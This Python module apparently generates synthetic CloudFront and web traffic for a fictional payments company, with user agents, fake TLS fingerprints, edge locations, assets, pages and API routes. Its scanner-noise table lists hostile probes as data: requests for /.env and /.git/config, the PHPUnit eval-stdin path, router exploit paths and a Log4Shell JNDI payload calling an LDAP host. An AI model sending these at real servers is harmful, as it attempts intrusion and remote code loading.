"""What AnyCompany's web stack serves and who asks for it: pages and assets, the portal, the API's resources,
browsers (with their TLS fingerprints), crawlers and internet noise, and where CloudFront serves them from.
"""

from __future__ import annotations

import functools
import hashlib
from typing import NamedTuple


class Agent(NamedTuple):
    """A client program: its User-Agent, TLS fingerprints and whether it speaks HTTP/2."""

    ua: str
    ja3: str
    ja4: str
    h2: bool


def _agent(ua: str, h2: bool = True) -> Agent:
    h = hashlib.md5(ua.encode()).hexdigest()
    ja4 = f"t13d{'1516' if h2 else '1311'}{'h2' if h2 else 'h1'}_{h[:12]}_{h[12:24]}"
    return Agent(ua, hashlib.md5(ua[::-1].encode()).hexdigest(), ja4, h2)


BROWSERS = tuple(
    _agent(ua)
    for ua in (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 "
        "Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 "
        "Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3.1 "
        "Safari/605.1.15",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.3.1 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.6261.90 "
        "Mobile Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 "
        "Safari/537.36 Edg/122.0.2365.66",
    )
)
BROWSER_WEIGHTS = (30, 14, 14, 16, 12, 7, 7)
MOBILE_APPS = (
    _agent("AnyCompany/4.12.0 (iPhone; iOS 17.3.1; Scale/3.00)", h2=True),
    _agent("okhttp/4.12.0", h2=False),
)
CRAWLERS = (
    _agent("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", h2=False),
    _agent("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", h2=False),
    _agent("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", h2=False),
)
NOISE_AGENTS = tuple(
    _agent(ua, h2=False)
    for ua in (
        "Mozilla/5.0 zgrab/0.x",
        "curl/7.88.1",
        "python-requests/2.31.0",
        "Go-http-client/1.1",
        "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:47.0) Gecko/20100101 Firefox/47.0",
        "-",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    )
)
NOISE_PATHS = (
    ("/", ""),
    ("/", ""),
    ("/.env", ""),
    ("/wp-login.php", ""),
    ("/.git/config", ""),
    ("/admin", ""),
    ("/login", ""),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", ""),
    ("/cgi-bin/luci/;stok=/locale", ""),
    ("/", "XDEBUG_SESSION_START=phpstorm"),
    ("/actuator/health", ""),
    ("/server-status", ""),
    ("/boaform/admin/formLogin", ""),
    ("/owa/auth/logon.aspx", ""),
    ("/", "x=%24%7Bjndi%3Aldap%3A%2F%2F198.18.3.3%3A1389%2Fa%7D"),
    ("/robots.txt", ""),
    ("/favicon.ico", ""),
    ("/api/v1/pods", ""),
)

# (country, weight, edge locations serving it); addresses get a country from a hash, so it is stable
COUNTRIES = (
    ("US", 52, ("IAD89-P1", "IAD12-P3", "JFK50-P4", "ORD58-P6", "DFW56-P3", "ATL59-P1", "SFO53-P2", "SEA19-C2")),
    ("CA", 6, ("YTO50-P1", "YUL62-C1")),
    ("GB", 9, ("LHR61-P3", "LHR50-C1", "MAN50-P1")),
    ("DE", 8, ("FRA56-P5", "FRA60-P2", "MUC50-P1")),
    ("FR", 5, ("CDG52-P1", "CDG55-P4")),
    ("NL", 4, ("AMS58-P2", "AMS1-C1")),
    ("IE", 2, ("DUB2-C1",)),
    ("BR", 4, ("GRU3-C1", "GIG51-C1")),
    ("JP", 3, ("NRT57-P2", "KIX56-P1")),
    ("SG", 3, ("SIN2-P1",)),
    ("AU", 2, ("SYD62-P1",)),
    ("IN", 2, ("BOM78-P2", "DEL54-P3")),
)
_COUNTRY_TABLE = tuple(c for c, w, _ in COUNTRIES for _ in range(w))
_EDGES = {c: edges for c, _, edges in COUNTRIES}


@functools.cache
def country_of(ip: str) -> str:
    return _COUNTRY_TABLE[int.from_bytes(hashlib.blake2b(ip.encode(), digest_size=4).digest(), "big") % 100]


@functools.cache
def edge_of(ip: str, country: str) -> str:
    edges = _EDGES.get(country, ("IAD89-P1",))
    return edges[
        int.from_bytes(hashlib.blake2b(ip.encode(), digest_size=2, person=b"edge").digest(), "big") % len(edges)
    ]


class Asset(NamedTuple):
    path: str
    ctype: str
    size: int


def _asset(path: str, ctype: str, mean: int) -> Asset:
    h = int.from_bytes(hashlib.blake2b(path.encode(), digest_size=3).digest(), "big")
    return Asset(path, ctype, int(mean * (0.5 + (h % 1000) / 1000)))


SITE_ASSETS = (
    _asset("/static/js/main.3f9a1c7e.js", "application/javascript", 182_000),
    _asset("/static/js/vendor.8b21d4f0.js", "application/javascript", 310_000),
    _asset("/static/css/site.a7c3e1b2.css", "text/css", 48_000),
    _asset("/static/fonts/inter-var.woff2", "font/woff2", 96_000),
    _asset("/static/img/logo.svg", "image/svg+xml", 6_000),
    _asset("/favicon.ico", "image/x-icon", 15_000),
)
SITE_IMAGES = tuple(_asset(f"/static/img/hero-{i}.webp", "image/webp", 140_000) for i in range(1, 7)) + tuple(
    _asset(f"/static/img/products/{i:03d}.webp", "image/webp", 60_000) for i in range(1, 41)
)
# (path pattern, weight, referer path); {n} is a product number, {s} a blog slug
SITE_PAGES = (
    ("/", 30),
    ("/pricing", 10),
    ("/features", 10),
    ("/products", 8),
    ("/products/{n}", 15),
    ("/blog", 5),
    ("/blog/{s}", 10),
    ("/docs/getting-started", 5),
    ("/about", 3),
    ("/contact", 2),
    ("/careers", 2),
)
BLOG_SLUGS = (
    "faster-payouts-for-marketplaces",
    "pci-dss-4-what-changes",
    "how-we-cut-checkout-latency",
    "introducing-instant-settlements",
    "fraud-signals-that-matter",
)
CRAWLER_PAGES = ("/robots.txt", "/sitemap.xml", "/", "/pricing", "/features", "/blog", "/products")
LANDING_QUERIES = (
    "",
    "",
    "",
    "",
    "utm_source=newsletter&utm_medium=email",
    "utm_source=google&utm_medium=cpc",
    "ref=home",
)

APP_ASSETS = (
    _asset("/app/static/js/app.5d1e2f90.js", "application/javascript", 420_000),
    _asset("/app/static/js/chunk-vendors.77ab0c1d.js", "application/javascript", 380_000),
    _asset("/app/static/js/chunk-dashboard.1c9e3a2b.js", "application/javascript", 95_000),
    _asset("/app/static/css/app.c0ffee42.css", "text/css", 64_000),
    _asset("/app/static/img/avatar-default.png", "image/png", 9_000),
    _asset("/app/static/img/card-brands.svg", "image/svg+xml", 12_000),
    _asset("/app/static/fonts/inter-var.woff2", "font/woff2", 96_000),
    _asset("/favicon.ico", "image/x-icon", 15_000),
)
APP_PAGES = (
    "/app/dashboard",
    "/app/payments",
    "/app/payments/{id}",
    "/app/settlements",
    "/app/invoices",
    "/app/settings",
)
APP_XHR = ("/app/api/notifications", "/app/api/session", "/app/api/payments?limit=20", "/app/api/balance")

# API Gateway resources: (method, resource path, weight)
API_RESOURCES = (
    ("GET", "/v1/balance", 22),
    ("GET", "/v1/payments", 25),
    ("GET", "/v1/payments/{id}", 18),
    ("POST", "/v1/payments", 8),
    ("GET", "/v1/settlements", 10),
    ("GET", "/v1/invoices", 9),
    ("GET", "/v1/merchants/{id}", 5),
    ("POST", "/v1/refunds", 3),
)

# CloudFront's URL encoding of the W3C log fields: control and non-ASCII bytes, space and these characters
_CF_UNSAFE = set(b"<>\"#%{}|\\^~[]`' ")


def cf_encode(value: str) -> str:
    """A field value as CloudFront standard logs write it (`Mozilla/5.0%20(Windows%20NT ...`)."""
    if not value:
        return "-"
    out = []
    for b in value.encode():
        out.append(f"%{b:02X}" if b <= 32 or b >= 127 or b in _CF_UNSAFE else chr(b))
    return "".join(out)
